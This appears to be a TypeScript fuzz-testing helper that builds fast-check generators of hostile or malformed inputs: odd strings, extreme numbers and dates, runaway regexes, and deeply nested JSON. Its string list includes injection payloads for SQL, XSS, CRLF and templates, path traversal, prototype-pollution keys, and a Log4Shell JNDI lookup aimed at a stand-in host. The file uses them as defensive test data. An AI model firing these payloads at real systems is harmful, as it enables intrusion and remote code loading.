import fc from 'fast-check';

/** Texts that have broken one program or another. */
const nastyTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  '%',
  '%zz',
  '%00',
  '+',
  '&&==&',
  '\r\nSet-Cookie: a=1',
  '\ud800',
  '\udc00\ud800',
  '\ufeff',
  '\u202e\u2066',
  '１２３',
  'İ',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '{gaid}',
  '%%IDFA%%',
  '__GAID__',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '[object Object]',
  '../..',
  '..%2f_sim',
  'javascript:alert(1)',
  'data:text/html,x',
  'https:\\\\evil.example\\@a',
  'https://user:password@evil.example:99999/',
  'https://a/\r\nX: y',
  'intent://x#Intent;scheme=a;end',
  'http://[::1',
  'market://details?id=x&referrer=%',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '00000000-0000-0000-0000-000000000000',
  '::ffff:1.2.3.4',
  'fe80::1%lo',
  '127.1',
  '999.1.1.1',
  `${'a'.repeat(40)}!`,
  `${'0'.repeat(400)}1`,
  `1${'0'.repeat(400)}`,
];

export const nastyNumbers: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.1,
  -0.5,
  5e-324,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  86_400_000,
  2_592_000_000,
  2_592_000_001,
  3_153_600_000_000,
  253_402_300_799_999,
  8_640_000_000_000_001,
];

export const nastyInstants: readonly string[] = [
  '9999-12-31T23:59:59.999Z',
  '9999-12-31T23:59:59.999-23:59',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '0000-01-01T00:00:00+23:59',
  '2026-02-30T00:00:00Z',
  '2026-01-01T24:00:00Z',
  '2026-06-30T23:59:60Z',
  '2026-01-01',
  '20260101T000000Z',
];

/** Patterns that take for ever, that are too large, or that are none. */
export const nastyPatterns: readonly string[] = [
  '(a+)+$',
  '^(a|a)*$',
  '(.*)*x',
  '^(\\w+\\s?)*$',
  '(?=(a+))\\1*b',
  '(?:(?:(?:a{999}){999}){999}){999}',
  'a{0,65535}b',
  '(',
  '[\\p{L}--[a-z]]',
  '\\u{110000}',
  '',
  '.',
];

/** A few hundred characters mostly; seldom as much as a body may hold, or more. */
const longText = fc
  .tuple(
    fc.constantFrom('x', 'é', '\0', '0', '%25', '"', '\u{1f980}', 'ab=cd&'),
    fc.oneof(
      { weight: 200, arbitrary: fc.integer({ min: 30, max: 500 }) },
      { weight: 50, arbitrary: fc.constantFrom(4095, 4096, 4097, 10_000) },
      { weight: 6, arbitrary: fc.constant(70_000) },
      { weight: 1, arbitrary: fc.constant(1_100_000) },
    ),
  )
  .map(([unit, size]) => unit.repeat(Math.ceil(size / unit.length)));

export const nastyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...nastyTexts) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.constantFrom(...nastyInstants, ...nastyNumbers.map(String)) },
  { weight: 1, arbitrary: fc.constantFrom(...nastyPatterns) },
  { weight: 1, arbitrary: longText },
);

const nastyName = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toJSON',
    'length',
    'then',
    '',
    'id',
    'where',
    'a.b',
    'a/b',
    '~0',
  ),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

const nastyLeaf: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, ...nastyNumbers),
  nastyText,
);

/** JSON of the wrong shape: wrong types, strange names, and now and then very deep or very wide. */
export const nastyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 80, arbitrary: nastyLeaf },
  { weight: 20, arbitrary: fc.array(nastyLeaf, { maxLength: 4 }) },
  { weight: 20, arbitrary: fc.dictionary(nastyName, nastyLeaf, { maxKeys: 4 }) },
  {
    weight: 10,
    arbitrary: fc.dictionary(nastyName, fc.dictionary(nastyName, nastyLeaf, { maxKeys: 2 }), { maxKeys: 2 }),
  },
  { weight: 3, arbitrary: fc.integer({ min: 60, max: 3000 }).map(nested) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(1001, 30_000).map((size) => Array.from({ length: size }, () => 0)),
  },
);

function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}
